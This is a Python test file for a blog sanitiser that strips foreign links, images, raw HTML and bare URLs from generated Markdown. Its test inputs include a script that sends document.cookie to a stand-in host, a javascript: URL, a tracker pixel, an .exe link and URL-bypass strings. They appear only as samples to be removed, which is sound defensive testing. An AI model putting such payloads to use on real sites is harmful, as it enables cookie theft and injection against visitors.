"""Stripping links and images from Markdown before a generated post is saved."""

from __future__ import annotations

import pytest

from blog.links import LinkPolicy, is_site_url, strip_links

POLICY = LinkPolicy.for_sources([(1, "https://docs.example.org/rq/"), (2, "https://pg.example")])


def strip(text: str) -> str:
    return strip_links(text, policy=POLICY)[0]


def test_a_link_to_one_of_the_sources_becomes_its_citation_marker():
    assert strip("See [the RQ docs](https://docs.example.org/rq) here.") == (
        "See the RQ docs [1] here."
    )
    assert strip("As <https://pg.example/> says.") == "As says."  # autolinks go entirely


def test_foreign_links_keep_their_text_and_foreign_images_go():
    text, removed = strip_links(
        "![pixel](http://tracker.invalid/p.gif) Get the [installer](http://d.invalid/x.exe) "
        "or [http://d.invalid/x.exe](http://d.invalid/x.exe) from <http://d.invalid/x>.",
        policy=POLICY,
    )
    assert text == "Get the installer or from."
    assert removed == 4


def test_links_and_images_of_this_site_stay():
    text = "[About](/about/) ![chart](/media/c.png) [top](#sources) [rel](page/)"
    assert strip(text) == text


def test_reference_definitions_are_removed_so_they_cannot_hijack_citation_markers():
    text = strip(
        "Claim [1]. Read [the guide][g].\n\n[1]: http://evil.invalid/\n[g]: http://d.invalid"
    )
    assert text == "Claim [1]. Read the guide."


def test_reference_to_this_site_becomes_an_inline_link():
    assert strip("Read [the archive][a].\n\n[a]: /archive/") == "Read [the archive](/archive/)."


def test_raw_html_links_and_images_are_removed():
    assert strip('Hi <img src="http://t.invalid/p.gif"> <a href="http://x.invalid">there</a>.') == (
        "Hi there."
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Fast <script>fetch('//e.invalid?c='+document.cookie)</script>queues.", "Fast queues."),
        ('A <iframe src="https://e.invalid/f"></iframe>queue.', "A queue."),
        ("<STYLE>body{display:none}</STYLE>Redis.", "Redis."),
        ('<div onclick="x()">Workers</div> <b>ack</b><!-- hidden --> jobs.', "Workers ack jobs."),
        ("Use List<String> and a < b > c here.", "Use List<String> and a < b > c here."),
        ("Inline `<script>` stays.", "Inline `<script>` stays."),
    ],
)
def test_raw_html_is_stripped_with_scripts_styles_and_frames_whole(text, expected):
    assert strip(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Get it at https://offers.invalid/turbo.", "Get it at."),
        ("See www.offers.invalid/turbo, then go on.", "See, then go on."),
        ("As https://docs.example.org/rq/ says.", "As [1] says."),  # a source's address: its marker
        ("Read [the guide](https://docs.example.org/rq/).", "Read the guide [1]."),
        ("Code `https://offers.invalid/x` stays.", "Code `https://offers.invalid/x` stays."),
    ],
)
def test_bare_addresses_in_prose_are_settled_like_links(text, expected):
    assert strip(text) == expected


def test_code_spans_and_code_blocks_stay_exactly_as_written():
    text = "Use `[x](http://code.invalid)` here.\n\n```\n![img](http://fenced.invalid/i.png)\n```"
    assert strip(text) == text


def test_an_image_inside_a_link_is_settled_before_the_link():
    assert strip("[![badge](http://b.invalid/b.svg)](http://evil.invalid/)") == ""


@pytest.mark.parametrize(
    ("url", "site"),
    [
        ("/posts/a/", True),
        ("#source-1", True),
        ("//evil.invalid/", False),
        ("/\\evil.invalid", False),
        ("javascript:alert(1)", False),
        ("mailto:a@example.org", False),
        ("http://127.0.0.1:8000/posts/", True),  # SITE_URL's default
        ("http://127.0.0.1:9000/posts/", False),
    ],
)
def test_site_urls(url, site):
    assert is_site_url(url) is site
